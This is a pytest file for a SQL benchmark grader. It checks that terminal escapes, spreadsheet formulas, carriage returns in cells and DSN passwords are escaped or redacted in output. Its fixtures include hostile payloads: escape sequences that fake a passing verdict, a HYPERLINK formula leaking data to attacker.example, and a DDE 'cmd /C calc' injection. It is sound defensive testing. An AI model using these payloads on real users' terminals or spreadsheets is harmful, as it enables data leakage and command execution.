"""Untrusted text on its way out (docs/security.md, issue 24 "Output and reports"): terminal escapes, spreadsheet
formulas, a carriage return inside a cell, and DSN passwords in what the grader prints and stores.

Every command runs as a user runs it, in a subprocess with stdout and stderr piped, on real SQLite and DuckDB.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import urllib.parse
from pathlib import Path

import pytest
from casefolders import write_instance
from helpers_io import tree_hash

from evaluators.reporting.provenance import redacted_command
from evaluators.reporting.report import spreadsheet_cell
from evaluators.terminal_safe import json_text, one_line, terminal_text

ROOT = Path(__file__).resolve().parents[1]
# A window title, a cleared screen and a fake green verdict; then C1's CSI, a bidi override and a line separator.
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[32mALL TESTS PASSED\x1b[0m"
C1 = "\x9b2J\u202eevil\u2028"
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029")
PASSWORD = "Pw!9 x/y+z=Q7"


def _unsafe(data: bytes) -> list[str]:
    """Every character a terminal would act on: C0 but tab and newline, DEL, C1, bidi controls, raw bytes."""
    text = data.decode("utf-8", "surrogateescape")
    bad = {
        c
        for c in text
        if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F or c in BIDI or 0xDC80 <= ord(c) <= 0xDCFF
    }
    return sorted(f"U+{ord(c):04X}" for c in bad)


def _run(*args, env=None) -> subprocess.CompletedProcess:
    """evaluate.py as a user runs it, stdout and stderr piped, bytes kept as they came."""
    return subprocess.run(
        [sys.executable, str(ROOT / "evaluate.py"), *map(str, args)],
        capture_output=True,
        timeout=300,
        cwd=ROOT,
        # Wide enough that no line is cut before its escapes, however long the temp folder's path (xdist's
        # workers add `popen-gwN/`): what is checked is how they are shown, not the width.
        env={**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "400", **(env or {})},
    )


def _sqlite(path: Path, *statements: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    con = sqlite3.connect(path)
    for statement in statements:
        con.execute(statement)
    con.commit()
    con.close()


# ---- the hostile submission ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A gold and a nested submission whose ids, file names, answers and engine errors carry escapes."""
    root = tmp_path_factory.mktemp("hostile")
    _sqlite(root / "gold" / "databases" / "one.sqlite", "CREATE TABLE t (a INTEGER)", "INSERT INTO t VALUES (1)")
    table = {"func": "table_match", "parameters": {"gold": "g.csv"}}
    lite, duck = {"type": "SQLite", "db": "one"}, {"type": "DuckDB"}
    sqlite_error = 'SELECT * FROM "\x1b]0;t\x07\x1b[2J\x9b1m"'
    duckdb_error = "SELECT error(chr(27) || ']0;t' || chr(7) || chr(27) || '[2J' || chr(155) || 'x')"
    write_instance(root, "sql_lite", table, "file", "a.sql", {"g.csv": "a\n1\n"}, {"a.sql": sqlite_error}, lite)
    write_instance(root, "sql_duck", table, "file", "a.sql", {"g.csv": "a\n1\n"}, {"a.sql": duckdb_error}, duck)
    write_instance(root, "text", {"func": "string_match", "parameters": {"gold": "Paris"}}, "answer", ESCAPES + C1)
    write_instance(root, "missing_file", table, "file", f"r{ESCAPES}.csv", {"g.csv": "a\n1\n"})
    write_instance(root, "bad_csv", table, "file", "r.csv", {"g.csv": "a\n1\n"}, {"r.csv": f"a\n{ESCAPES}\n"})
    with open(root / "sub" / "results_metadata.jsonl", "a") as handle:  # an id the gold does not know, a bad line
        handle.write(json.dumps({"instance_id": f"ghost{ESCAPES}", "answer_type": "answer", "answer_or_path": "x"}))
        handle.write("\n" + "{" + ESCAPES + C1 + "\n")
    return root


@pytest.fixture(scope="module")
def flat(tmp_path_factory):
    """The flat layout with file names holding escape bytes and bytes that are not UTF-8."""
    root = tmp_path_factory.mktemp("flat")
    gold, sub = root / "gold", root / "sub"
    write_instance(
        root, "q1", {"func": "table_match", "parameters": {"gold": "g.csv"}}, "file", None, {"g.csv": "a\n1\n"}
    )
    (sub / "results_metadata.jsonl").unlink()
    for name in (b"\xff\x1b]0;t\x07.csv", b"\x1b[2J\xc2\x9bq1.txt", b"q1\x1b[32m.csv", b"\xe2\x80\xaeevil.sql"):
        with open(os.path.join(os.fsencode(sub), name), "wb") as handle:
            handle.write(b"a\n1\n")
    os.mkdir(os.fsencode(sub) + b"/\x1b[2Jdir")
    return root, gold, sub


@pytest.fixture(scope="module")
def graded(hostile, tmp_path_factory):
    out = tmp_path_factory.mktemp("out") / "report.json"
    before = tree_hash(hostile / "sub"), tree_hash(hostile / "gold")
    result = _run("--result-dir", hostile / "sub", "--gold-dir", hostile / "gold", "--output", out, "--html")
    assert (tree_hash(hostile / "sub"), tree_hash(hostile / "gold")) == before
    return result, out


# ---- 1. terminal escapes: nothing a terminal acts on reaches stdout or stderr ------------------------------


def test_grade_prints_no_control_character_and_still_shows_what_was_there(graded):
    result, out = graded
    assert _unsafe(result.stdout) == [] and _unsafe(result.stderr) == [], result.stdout.decode(errors="replace")
    text = result.stdout.decode()
    report = {i["instance_id"]: i for i in json.loads(out.read_text())["instances"]}
    assert report["sql_lite"]["reason"] == report["sql_duck"]["reason"] == "exec_error"
    assert "\x1b]0;t\x07" in report["sql_lite"]["detail"]  # the report keeps what the engine said
    for shown in ("sql_lite: exec_error", "sql_duck: exec_error", "\\x1b]0;t\\x07\\x1b[2J", "\\x9b", "text:"):
        assert shown in text, shown
    assert "\\x1b[32mALL TESTS" in text  # shown as text, not as a green line
    assert not any(line.lstrip().startswith("ALL TESTS") for line in text.splitlines())


def test_json_on_the_terminal_is_the_same_json_without_control_characters(hostile, tmp_path):
    result = _run("--result-dir", hostile / "sub", "--gold-dir", hostile / "gold", "--format", "json", "--no-plot")
    assert _unsafe(result.stdout) == [] and _unsafe(result.stderr) == []
    printed = {i["instance_id"]: i for i in json.loads(result.stdout)["instances"]}
    assert "\x1b]0;t\x07\x1b[2J\x9b1m" in printed["sql_lite"]["detail"]  # escaped in the text, intact in the JSON


def test_validate_prints_no_control_character(hostile):
    result = _run("validate", "--result-dir", hostile / "sub", "--gold-dir", hostile / "gold")
    assert result.returncode == 1
    assert _unsafe(result.stdout) == [] and _unsafe(result.stderr) == [], result.stdout
    assert b"ghost\\x1b]0;pwned\\x07" in result.stdout + result.stderr


def test_the_flat_layouts_input_problems_show_file_name_bytes_escaped(flat, tmp_path):
    root, gold, sub = flat
    graded = _run("--result-dir", sub, "--gold-dir", gold, "--layout", "flat", "--output", tmp_path / "r.json")
    checked = _run("validate", "--result-dir", sub, "--gold-dir", gold, "--layout", "flat")
    for result in (graded, checked):
        assert _unsafe(result.stdout) == [] and _unsafe(result.stderr) == [], result.stdout
    assert b"\\x1b[2Jdir: folder ignored" in graded.stdout and b"\\x1b[2J\\x9bq1.txt" in graded.stdout
    assert b"sub/\\xff\\x1b]0;t\\x07.csv: instance_id" in checked.stdout and b"\\u202eevil.sql" in checked.stdout
    report = json.loads((tmp_path / "r.json").read_text())  # written, valid JSON, the name's bytes kept
    assert "\udcff\x1b]0;t\x07" in report["summary"]["unknown_submitted"]


def test_bird_and_test_suite_print_no_control_character(tmp_path):
    db_root = tmp_path / "dbs"
    _sqlite(db_root / "cal" / "cal.sqlite", "CREATE TABLE t (a INTEGER)")
    (tmp_path / "gold.sql").write_text("SELECT a FROM t\tcal\nSELECT 1\tcal\n")
    bad = f'SELECT * FROM "{ESCAPES}"'
    sep = "\t----- bird -----\t"
    (tmp_path / "pred.json").write_text(json.dumps({"0": bad + sep + "cal", "1": "SELECT 1" + sep + "cal" + ESCAPES}))
    (tmp_path / "dev.json").write_text(json.dumps([{"difficulty": "simple"}, {"difficulty": ESCAPES}]))
    bird = _run(
        "bird",
        "--predicted_sql_path",
        tmp_path / "pred.json",
        "--ground_truth_path",
        tmp_path / "gold.sql",
        "--db_root_path",
        f"{db_root}/",
        "--diff_json_path",
        tmp_path / "dev.json",
        "--output",
        tmp_path / "b.json",
    )
    (tmp_path / "database" / "cal").mkdir(parents=True)
    (db_root / "cal" / "cal.sqlite").rename(tmp_path / "database" / "cal" / "cal.sqlite")
    (tmp_path / "gold.txt").write_text("SELECT a FROM t\tcal\n")
    (tmp_path / "pred.txt").write_text(bad + "\n")
    suite = _run(
        "test-suite", "--gold", tmp_path / "gold.txt", "--pred", tmp_path / "pred.txt", "--db", tmp_path / "database"
    )
    for result in (bird, suite):
        assert _unsafe(result.stdout) == [] and _unsafe(result.stderr) == [], result.stdout + result.stderr
        assert b"\\x1b]0;pwned\\x07" in result.stdout + result.stderr


def test_gold_lint_and_compare_print_no_control_character(graded, tmp_path):
    gold = tmp_path / "gold"
    spec = {"func": "table_match", "parameters": {"gold": f"g{ESCAPES}.csv"}}
    write_instance(tmp_path, f"i{C1}", spec, "file", None, {"g.csv": "a\n1\n"})
    (gold / "bad.sql").write_text(ESCAPES)
    lint = _run("gold", "lint", "--gold-dir", gold, "--no-self-check")
    assert lint.returncode != 0
    _, out = graded
    data = json.loads(out.read_text())
    for instance in data["instances"]:
        instance["instance_id"] += ESCAPES + C1  # ids as a report from elsewhere may hold them
    baseline = tmp_path / "baseline.json"
    baseline.write_text(json.dumps(data))
    for instance in data["instances"]:
        instance["score"] = instance["strict_score"] = 1.0
    candidate = tmp_path / "candidate.json"
    candidate.write_text(json.dumps(data))
    compared = _run("compare", baseline, candidate)
    assert compared.returncode == 0, compared.stderr
    for result in (lint, compared):
        assert _unsafe(result.stdout) == [] and _unsafe(result.stderr) == [], result.stdout + result.stderr
    assert b"\\x1b]0;pwned\\x07" in lint.stdout + lint.stderr and b"\\u202e" in compared.stdout


@pytest.mark.parametrize(
    "raw, shown",
    [
        ("\x1b[2J", "\\x1b[2J"),
        ("a\x07b\x7f\x9b", "a\\x07b\\x7f\\x9b"),
        ("\u202eevil\u2066\u2028", "\\u202eevil\\u2066\\u2028"),
        ("name\udcff\udc9b", "name\\xff\\x9b"),  # a file name's bytes that are not UTF-8
        ("tab\tand\nnewline", "tab\tand\nnewline"),  # our own layout stays
        ("été 北京 ✓", "été 北京 ✓"),  # text is text
    ],
)
def test_terminal_text_shows_control_characters_escaped(raw, shown):
    assert terminal_text(raw) == shown
    assert one_line("a\nb\r\tc") == "a\\x0ab\\x0d\\x09c"


def test_an_uncaught_traceback_shows_its_message_escaped(capsys):
    from evaluators.entry import print_safely

    try:
        raise ValueError(f"bad name {ESCAPES}")
    except ValueError as exc:
        print_safely(type(exc), exc, exc.__traceback__)
    shown = capsys.readouterr().err
    assert "Traceback" in shown and "ValueError: bad name \\x1b]0;pwned\\x07" in shown and "\x1b" not in shown


def test_json_text_stays_the_same_json():
    value = {"id": ESCAPES + C1 + "\x7f\udcff", "ok": "été"}
    text = json_text(json.dumps(value, ensure_ascii=False))
    assert json.loads(text) == value and _unsafe(text.encode("utf-8", "surrogatepass")) == []


# ---- 2. report.csv: no cell a spreadsheet would run as a formula -------------------------------------------


def test_report_csv_cells_never_start_a_formula(tmp_path):
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
    table = {"func": "table_match", "parameters": {"gold": "g.csv"}}
    write_instance(tmp_path, formula, table, "file", f"{formula}.csv", {"g.csv": "a\n1\n"}, metadata={"level": "+1+1"})
    write_instance(tmp_path, "@SUM(1+1)*cmd|' /C calc'!A0", table, "file", "-2+3+cmd.csv", {"g.csv": "a\n1\n"})
    text = {"func": "string_match", "parameters": {"gold": "Paris"}}
    write_instance(tmp_path, "t1", text, "answer", "\t=1+1", metadata={"level": "-3.5"})
    write_instance(tmp_path, "t2", text, "answer", "\r=1+1", metadata={"level": "@x"})
    out = tmp_path / "out" / "report.json"
    result = _run("--result-dir", tmp_path / "sub", "--gold-dir", tmp_path / "gold", "--output", out, "--no-plot")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.with_suffix(".csv").read_text(), newline="")))
    cells = [cell for row in rows for cell in row]
    starts = [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert starts == ["-3.5"], starts  # a number stays a number
    by_id = {row[0]: row for row in rows[1:]}
    assert "'" + formula in by_id and "'@SUM(1+1)*cmd|' /C calc'!A0" in by_id
    assert float(by_id["t1"][3]) == 0.0  # scores are numbers, unquoted
    assert "'+1+1" in cells and "'@x" in cells
    report = json.loads(out.read_text())  # the JSON keeps the values as they are
    assert formula in {i["instance_id"] for i in report["instances"]}


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("+41 7 123", "'+41 7 123"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3.5", "-3.5"),
        ("+7", "+7"),
        ("1e-3", "1e-3"),
        ("a=b", "a=b"),
        (-3.5, -3.5),
        ("", ""),
    ],
)
def test_spreadsheet_cell_follows_the_owasp_rule(value, cell):
    assert spreadsheet_cell(value) == cell


# ---- 3. a carriage return inside a cell is not a row boundary ----------------------------------------------


@pytest.fixture(scope="module")
def carriage_return(tmp_path_factory):
    root = tmp_path_factory.mktemp("cr")
    _sqlite(root / "gold" / "databases" / "one.sqlite", "CREATE TABLE t (a INTEGER)")
    table = {"func": "table_match", "parameters": {"gold": "g.csv"}}
    two_rows = {"g.csv": "x\nalpha\nbeta\n"}
    lite, duck = {"type": "SQLite", "db": "one"}, {"type": "DuckDB"}
    cases = {
        "lite_cr": ("SELECT 'alpha' || char(13) || 'beta' AS x", lite),
        "duck_cr": ("SELECT 'alpha' || chr(13) || 'beta' AS x", duck),
        "lite_crlf": ("SELECT 'alpha' || char(13, 10) || 'beta' AS x", lite),
        "duck_lf": ("SELECT 'alpha' || chr(10) || 'beta' AS x", duck),
        "lite_name": ("SELECT 'beta' AS \"x\ralpha\"", lite),  # a header cell
    }
    for iid, (sql, meta) in cases.items():
        write_instance(root, iid, table, "file", "a.sql", two_rows, {"a.sql": sql}, meta)
    ok = {"g.csv": 'x\n"alpha\rbeta"\n'}  # the one-row gold it does equal
    write_instance(root, "lite_one", table, "file", "a.sql", ok, {"a.sql": cases["lite_cr"][0]}, lite)
    write_instance(root, "duck_one", table, "file", "a.sql", ok, {"a.sql": cases["duck_cr"][0]}, duck)
    exec_spec = {"func": "execution_match", "parameters": {"gold_sql": "gold.sql"}}
    gold_sql = {"gold.sql": "SELECT 'alpha' AS x UNION ALL SELECT 'beta'"}
    write_instance(root, "ex_cr", exec_spec, "file", "a.sql", gold_sql, {"a.sql": cases["lite_cr"][0]}, lite)
    return root


@pytest.mark.parametrize("semantics", ["spider2", "spider2-2024", "spider2-lite", "strict"])
def test_a_carriage_return_inside_a_cell_is_one_row_under_every_semantics(carriage_return, semantics, tmp_path):
    out = tmp_path / "report.json"
    root = carriage_return
    result = _run(
        "--result-dir",
        root / "sub",
        "--gold-dir",
        root / "gold",
        "--output",
        out,
        "--semantics",
        semantics,
        "--no-plot",
    )
    assert result.returncode == 0, result.stderr
    scores = {i["instance_id"]: (i["score"], i["strict_score"]) for i in json.loads(out.read_text())["instances"]}
    for iid in ("lite_cr", "duck_cr", "lite_crlf", "duck_lf", "lite_name", "ex_cr"):
        assert scores[iid] == (0.0, 0.0), (iid, scores[iid])
    assert scores["lite_one"] == scores["duck_one"] == (1.0, 1.0)
    written = (out.parent / "report_exec" / "predictions" / "lite_cr.csv").read_bytes()
    assert written == b'x\r\n"alpha\rbeta"\r\n'  # quoted: every reader that honours quotes reads one row


def test_a_result_without_carriage_return_is_written_as_pandas_writes_it(tmp_path):
    import pandas as pd

    from evaluators.execution.backends.base import save_frame

    frame = pd.DataFrame({"x": ["alpha\nbeta", "b"], "y": [1, 2]})
    save_frame(frame, str(tmp_path / "a.csv"))
    assert (tmp_path / "a.csv").read_text() == frame.to_csv(index=False)
    frame = pd.DataFrame({"x": ["alpha\rbeta"]})
    save_frame(frame, str(tmp_path / "b.csv"))
    assert pd.read_csv(tmp_path / "b.csv").equals(frame)


# ---- 4. DSN passwords: never printed, never stored ---------------------------------------------------------


def _forms(secret: str) -> set[str]:
    raw = secret.encode()
    return {
        secret,
        urllib.parse.quote(secret, safe=""),
        urllib.parse.quote_plus(secret),
        base64.b64encode(raw).decode(),
        base64.urlsafe_b64encode(raw).decode(),
        raw.hex(),
        raw.hex().upper(),
        json.dumps(secret)[1:-1],
    }


def test_dsn_passwords_appear_in_no_output_file_and_no_stream(tmp_path):
    quoted = urllib.parse.quote(PASSWORD, safe="")
    spec = {"func": "table_match", "parameters": {"gold": "g.csv"}}
    for iid, kind in (("pg", "PostgreSQL"), ("my", "MySQL")):
        write_instance(
            tmp_path,
            iid,
            spec,
            "file",
            "a.sql",
            {"g.csv": "a\n1\n"},
            {"a.sql": "SELECT 1 AS a"},
            {"type": kind, "db": "db"},
        )
    out = tmp_path / "out" / "report.json"
    # servers that are not running: the redaction alone is under test (127.0.0.1:1 refuses at once)
    result = _run(
        "--result-dir",
        tmp_path / "sub",
        "--gold-dir",
        tmp_path / "gold",
        "--output",
        out,
        "--html",
        "--timeout",
        "10",
        f"--postgres-dsn=postgresql://grader:{quoted}@127.0.0.1:1/db",
        "--mysql-dsn",
        f"mysql://grader:{quoted}@127.0.0.1:1/db",
        env={"PGCONNECT_TIMEOUT": "2"},
    )
    report = json.loads(out.read_text())
    assert {i["reason"] for i in report["instances"]} <= {"exec_error", "network_error", "no_database", "missing_extra"}
    command = report["summary"]["provenance"]["command"]
    assert "postgresql://grader:[redacted]@127.0.0.1:1/db" in command and "mysql://grader:[redacted]@" in command
    places = {"stdout": result.stdout, "stderr": result.stderr}
    places.update({p.name: p.read_bytes() for p in out.parent.rglob("*") if p.is_file()})
    assert {"report.json", "report.csv", "report.html"} <= set(places)
    leaks = [(name, form) for name, data in places.items() for form in _forms(PASSWORD) if form.encode() in data]
    assert leaks == []


@pytest.mark.parametrize(
    "argv, hidden",
    [
        (["--postgres-dsn", "host=h user=u password='se cret' dbname=d"], ["se cret", "cret"]),
        (["--postgres-dsn=host=h password = hunter22 dbname=d"], ["hunter22"]),
        (["--postgres-dsn", "postgresql://h/db?user=u&password=Qwerty123&sslmode=off"], ["Qwerty123"]),
        (["--mysql-dsn", "mysql://root:p@ss@word@h:3306/db"], ["p@ss@word", "ss@word"]),
        (["db", "load-sqlite", "x.sqlite", "--dsn", "mysql://root:Zx8!pw@h"], ["Zx8!pw"]),
        (["--snowflake-password", "Sn0wPass", "--api-key=AbCdEf123"], ["Sn0wPass", "AbCdEf123"]),
        (
            ["PGPASSWORD=hunter22", "MY_SECRET=abcd1234", "GITHUB_TOKEN=ghp_zzzz", "run"],
            ["hunter22", "abcd1234", "ghp_"],
        ),
        (["--note", "hunter22x", "--password", "hunter22x"], ["hunter22x"]),  # the value repeated elsewhere
        (["--db", base64.b64encode(b"user:hunter22x").decode(), "--token", "hunter22x"], ["aHVudGVyMjJ4"]),
    ],
)
def test_the_stored_command_line_redacts_every_secret_spelling(argv, hidden):
    command = redacted_command(["evaluate.py", *argv])
    assert "[redacted]" in command
    assert not [h for h in hidden if h in command], command


@pytest.mark.parametrize(
    "dsn, password",
    [
        ("host=127.0.0.1 port=1 user=u password='se cret\\'99' dbname=d", "se cret'99"),
        ("host=127.0.0.1 port=1 password = hunter22", "hunter22"),
        (f"postgresql://u:{urllib.parse.quote(PASSWORD, safe='')}@127.0.0.1:1/db", PASSWORD),
        ("postgresql://u@127.0.0.1:1/db?password=Qwerty123", "Qwerty123"),
    ],
)
def test_a_dsn_password_is_redacted_from_an_error_in_every_spelling(dsn, password):
    from evaluators.execution.backends.base import redact
    from evaluators.execution.backends.servers import dsn_secrets

    message = " | ".join(sorted(_forms(password))) + f" | {dsn}"
    shown = redact(message, dsn_secrets(dsn))
    assert not [
        form for form in _forms(password) - {password.encode().hex(), password.encode().hex().upper()} if form in shown
    ]
    assert "127.0.0.1" in shown


def test_db_load_sqlite_never_prints_the_dsn_password(tmp_path):
    _sqlite(tmp_path / "shop.sqlite", "CREATE TABLE t (a INTEGER)")
    quoted = urllib.parse.quote(PASSWORD, safe="")
    for engine, dsn in (
        ("postgres", f"postgresql://u:{quoted}@127.0.0.1:1/x"),
        ("mysql", f"mysql://u:{quoted}@127.0.0.1:1"),
    ):
        result = _run("db", "load-sqlite", tmp_path / "shop.sqlite", "--engine", engine, "--dsn", dsn)
        assert result.returncode != 0
        leaks = [form for form in _forms(PASSWORD) if form.encode() in result.stdout + result.stderr]
        assert leaks == [], result.stderr


def test_a_command_without_secrets_is_kept_as_it_was():
    argv = ["evaluate.py", "--result-dir", "sub dir", "--gold-dir", "gold", "--max-file-mb", "5", "--backend", "sqlite"]
    assert (
        redacted_command(argv) == "evaluate.py --result-dir 'sub dir' --gold-dir gold --max-file-mb 5 --backend sqlite"
    )
